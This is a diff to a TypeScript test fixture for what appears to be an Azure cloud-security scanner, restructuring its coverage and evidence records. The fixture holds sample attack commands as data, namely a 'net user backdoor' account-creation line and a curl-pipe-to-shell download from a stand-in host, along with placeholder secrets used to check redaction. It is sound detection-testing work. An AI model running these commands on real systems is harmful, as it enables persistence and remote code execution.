@@ -62,7 +62,7 @@ export function makeResult(): { result: ScanResult; secrets: FixtureSecrets } {
     complete: false,
     coverage: [
       {
-        source: "activity-rest",
+        source: "activity-log",
         scope: `/subscriptions/${SUB}`,
         from: "2024-04-01T00:00:00Z",
         to: "2024-05-01T12:00:00Z",
@@ -70,14 +70,14 @@ export function makeResult(): { result: ScanResult; secrets: FixtureSecrets } {
         records: 1200,
       },
       {
-        source: "activity-export",
+        source: "archive",
         scope: `https://stlogs.blob.core.windows.net/insights-activity-logs?sv=2022-11-02&sig=${secrets.coverageSig}`,
         status: "partial",
         records: 34,
         reason: `HTTP 403 reading https://stlogs.blob.core.windows.net/x.json?sig=${secrets.coverageSig} after 34 records`,
       },
       {
-        source: "role-assignment-rest",
+        source: "rbac",
         scope: `/subscriptions/${SUB}`,
         status: "failed",
         records: 0,
@@ -99,8 +99,11 @@ export function makeResult(): { result: ScanResult; secrets: FixtureSecrets } {
         operation: "Microsoft.Compute/virtualMachines/runCommand/action",
         status: "new",
         evidence: {
+          kind: "activity",
           records: [{ kind: "activity", id: "evt-1", location: "activity.jsonl", index: 3 }],
-          commandLine: `net user backdoor ${secrets.password} /add`,
+          operationName: "Microsoft.Compute/virtualMachines/runCommand/action",
+          outcome: "succeeded",
+          matched: { commandLine: `net user backdoor ${secrets.password} /add` },
         },
       },
       {
@@ -114,14 +117,17 @@ export function makeResult(): { result: ScanResult; secrets: FixtureSecrets } {
         principal: { appId: "22222222-2222-2222-2222-222222222222", type: "ServicePrincipal" },
         time: "2024-05-01T09:00:00Z",
         evidence: {
+          kind: "configuration",
           records: [{ kind: "functionApp", id: FUNC_ID }],
-          scriptUri: sasUrl,
-          connectionString,
-          appSettings: {
-            AzureWebJobsStorage: connectionString,
-            WEBSITE_RUN_FROM_PACKAGE: sasUrl,
-            FUNCTIONS_WORKER_RUNTIME: "powershell",
-            MY_API_KEY: secrets.apiKey,
+          matched: {
+            scriptUri: sasUrl,
+            connectionString,
+            appSettings: {
+              AzureWebJobsStorage: connectionString,
+              WEBSITE_RUN_FROM_PACKAGE: sasUrl,
+              FUNCTIONS_WORKER_RUNTIME: "powershell",
+              MY_API_KEY: secrets.apiKey,
+            },
           },
         },
       },
@@ -135,9 +141,19 @@ export function makeResult(): { result: ScanResult; secrets: FixtureSecrets } {
         principal: {},
         time: "2024-05-01T11:30:00Z",
         evidence: {
+          kind: "payload",
           records: [{ kind: "resource", id: "cg1" }],
-          command: "sh -c 'curl https://example.invalid/x.sh | sh'",
-          huge: "A".repeat(20_000),
+          vector: "Container Instances",
+          payloads: [
+            {
+              kind: "command",
+              path: "properties.containers[0].properties.command",
+              content: "sh -c 'curl https://example.invalid/x.sh | sh'",
+              truncated: false,
+              vector: "Container Instances",
+            },
+          ],
+          matched: { huge: "A".repeat(20_000) },
         },
       },
     ],
@@ -161,6 +177,7 @@ export function makeResult(): { result: ScanResult; secrets: FixtureSecrets } {
         tactics: ["execution", "persistence"],
       },
     ],
+    diagnostics: [],
   };
   return { result, secrets };
 }
